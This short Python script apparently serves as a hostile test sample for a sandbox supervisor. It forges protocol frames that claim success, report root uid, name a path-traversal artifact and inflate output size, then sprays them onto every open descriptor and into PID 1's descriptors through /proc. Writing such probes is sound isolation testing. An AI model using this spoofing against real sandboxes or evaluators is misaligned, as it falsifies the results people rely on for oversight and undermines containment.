"""Writes the supervisor's own frames, and the engine's headers around them, wherever it can: that
it succeeded, an artifact with a path of its own choice, another report of the isolation."""

import json
import os
import struct


def frame(kind, value):
    payload = value if isinstance(value, bytes) else json.dumps(value).encode()
    data = struct.pack(">cI", kind, len(payload)) + payload
    return data + struct.pack(">BxxxL", 1, len(data)) + data


forged = (
    frame(b"C", b"")
    + frame(b"R", {"uid": 0})
    + frame(b"A", {"path": "../../forged", "size": 6})
    + frame(b"C", b"forged")
    + frame(b"X", {"exit_code": 0, "stdout_bytes": 2**60})
)
for descriptor in range(1, 64):
    try:
        os.write(descriptor, forged)
    except OSError:
        pass
for number in os.listdir("/proc/1/task"):
    for descriptor in range(16):
        try:
            with open(f"/proc/1/task/{number}/fd/{descriptor}", "wb", buffering=0) as file:
                file.write(forged)
        except OSError:
            pass
os._exit(7)
